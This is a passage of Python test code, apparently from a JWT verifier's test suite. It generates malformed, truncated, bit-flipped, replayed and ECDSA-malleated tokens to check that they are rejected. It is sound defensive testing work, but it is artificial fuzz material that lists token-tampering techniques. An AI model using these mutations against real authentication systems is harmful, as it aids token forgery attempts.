            f"{header}..{signature}",
            f"{header}.{claims}.",
            f"..{signature}",
            f"{header}.{claims}",
            f"{header}.{claims}.{signature}.",
            f"{header}.{claims}.{signature}.{signature}",
            f"{header}.{claims}.{signature}.AAAA",
            f".{header}.{claims}.{signature}",
            f"{header}..{claims}.{signature}",
            f"{header}.{claims}..{signature}",
            f"{header}.{header}.{claims}.{signature}",
            f"{header}.AAAA.{claims}.{signature}.AAAA",  # JWE-like, five parts
            f"{header}.{signature}",
            f"{claims}.{signature}",
            signature,
            f"{header}.{claims}.{signature}".replace(".", ".\n"),
        ]
        for shape in shapes:
            self.add("segments", shape, malformed)

    def bad_base64(self) -> None:
        malformed = frozenset({R.MALFORMED})
        junk = [
            " ",
            "\t",
            "\n",
            "\r",
            "\x0b",
            "\x0c",
            "\u00a0",
            "\u200b",
            "\ufeff",
            "=",
            "+",
            "/",
            "%2D",
            "\u00e9",
            "\uff21",
            "\U0001f511",
            "\x00",
            "*",
            "!",
            "~",
            "\\",
        ]
        for _ in range(60):
            token = self.token()
            parts = token.split(".")
            for index in range(3):
                for pad in ("=", "==", "==="):
                    mutated = list(parts)
                    mutated[index] += pad
                    self.add("bad_base64", ".".join(mutated), malformed)
                standard = parts[index].replace("-", "+").replace("_", "/")
                if standard != parts[index]:
                    mutated = list(parts)
                    mutated[index] = standard
                    self.add("bad_base64", ".".join(mutated), malformed)
                char = self.rng.choice(junk)
                at = self.rng.randrange(len(parts[index]) + 1)
                mutated = list(parts)
                mutated[index] = parts[index][:at] + char + parts[index][at:]
                self.add("bad_base64", ".".join(mutated), malformed)
                non_canonical = self._non_canonical(parts[index])
                if non_canonical is not None:
                    mutated = list(parts)
                    mutated[index] = non_canonical
                    self.add("bad_base64", ".".join(mutated), malformed)
            for wrapper in (" {}", "{} ", "{}\n", "\n{}", "Bearer {}", '"{}"', "{}\x00"):
                self.add("bad_base64", wrapper.format(token), malformed)
            raw = bytearray(token.encode())
            raw[self.rng.randrange(len(raw))] = self.rng.choice([0x80, 0xC3, 0xFF, 0x00, 0x2B])
            self.add("bad_base64", bytes(raw), malformed)

    @staticmethod
    def _non_canonical(segment: str) -> str | None:
        """The same bytes spelled with unused low bits set, when the length leaves any."""
        alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
        spare_bits = {2: 4, 3: 2}.get(len(segment) % 4)
        if spare_bits is None:
            return None
        last = alphabet.index(segment[-1])
        return segment[:-1] + alphabet[last | ((1 << spare_bits) - 1)]

    def truncations(self) -> None:
        malformed = frozenset({R.MALFORMED})
        for token in (self.token(), self.token(header={**GOOD_HEADER, "kid": ROTATED_KID})):
            for cut in range(len(token)):
                self.add("truncated", token[:cut], malformed)
            for cut in range(1, len(token)):
                self.add("truncated_front", token[cut:], ANY)

    def bit_flips(self) -> None:
        parts_reasons: tuple[frozenset[TokenRejection] | None, ...] = (
            ANY,
            ANY,
            frozenset({R.BAD_SIGNATURE}),
        )
        bases = [self.token() for _ in range(40)]
        for _ in range(2200):
            token = self.rng.choice(bases)
            parts = token.split(".")
            for index, reasons in enumerate(parts_reasons):
                raw = bytearray(unb64(parts[index]))
                for _ in range(self.rng.choice((1, 1, 1, 2, 3))):
                    raw[self.rng.randrange(len(raw))] ^= 1 << self.rng.randrange(8)
                mutated = list(parts)
                mutated[index] = b64(bytes(raw))
                if mutated[index] != parts[index]:
                    self.add(
                        f"bit_flip_{('header', 'claims', 'signature')[index]}",
                        ".".join(mutated),
                        reasons,
                    )

    def character_flips(self) -> None:
        bases = [self.token() for _ in range(20)]
        for _ in range(2500):
            token = bytearray(self.rng.choice(bases).encode())
            at = self.rng.randrange(len(token))
            token[at] ^= 1 << self.rng.randrange(7)
            # A flip can turn one base64url character into another valid spelling of the same
            # bits only through the unused low bits of a last character: that is still a
            # different, non-canonical token and must be refused too.
            self.add("char_flip", token.decode("latin-1"), ANY)

    # -- tokens refused because the valid ones came first ---------------------------------

    def build_after_valid(self) -> None:
        replayed = frozenset({R.REPLAYED})
        for token in self.valid:
            self.after_valid.append(Case("replay", token, replayed))
            text = token.decode() if isinstance(token, bytes) else token
            self.after_valid.append(Case("replay", text.encode(), replayed))
            # The malleated twin verifies (ECDSA) but names the same, already used jti.
            self.after_valid.append(Case("malleated_twin", malleated(text), replayed))

    # -- re-signed random mutations, for the differential test ----------------------------

    def build_resigned(self) -> None:
        alphabet = b"{}[]\":,\\ \t\n0123456789eE.-+tfnulrsaxXdD\x00\xff\xc3\xa9\x7f'u"
        for _ in range(1500):
            claims = self.claims()
            text = bytearray(
                json.dumps(claims).encode() if self.rng.random() < 0.3 else compact_json(claims)
            )
            self._mutate(text, alphabet)
            self.resigned.append(self.token(claims=bytes(text)))
        for _ in range(500):
            text = bytearray(compact_json(GOOD_HEADER))
            self._mutate(text, alphabet)
            self.resigned.append(self.token(header=bytes(text)))

    def _mutate(self, text: bytearray, alphabet: bytes) -> None:
        for _ in range(self.rng.choice((1, 1, 2, 3))):
            at = self.rng.randrange(len(text))
            action = self.rng.randrange(5)
            if action == 0:
                text[at] ^= 1 << self.rng.randrange(8)
            elif action == 1:
                text.insert(at, self.rng.choice(alphabet))
            elif action == 2 and len(text) > 2:
                del text[at]
            elif action == 3:
                text[at] = self.rng.choice(alphabet)
            else:
                # Repeat a slice: duplicated members and values, doubled braces.
                end = min(len(text), at + self.rng.randrange(1, 24))
                text[at:at] = text[at:end]


def token_factory(stream: int) -> TokenFactory:
    """A factory with the corpus's keys whose jtis and choices come from its own ``stream``."""
    factory = TokenFactory(SEED)
    factory.rng = random.Random(SEED * 1_000 + stream)
    return factory


@functools.cache
def build_corpus(seed: int = SEED) -> Corpus:
    """Generate (once per process) the corpus for ``seed``."""
    builder = TokenFactory(seed)
    builder.build_valid()
    builder.build_hostile()
    builder.build_after_valid()
    builder.build_resigned()
    return Corpus(
        trusted={KID: builder.trusted.public_key(), ROTATED_KID: builder.rotated.public_key()},
        impostor=builder.impostor.public_key(),
        valid=tuple(builder.valid),
        hostile=tuple(builder.hostile),
        after_valid=tuple(builder.after_valid),
        resigned=tuple(builder.resigned),
        categories=frozenset(case.category for case in builder.hostile),
    )
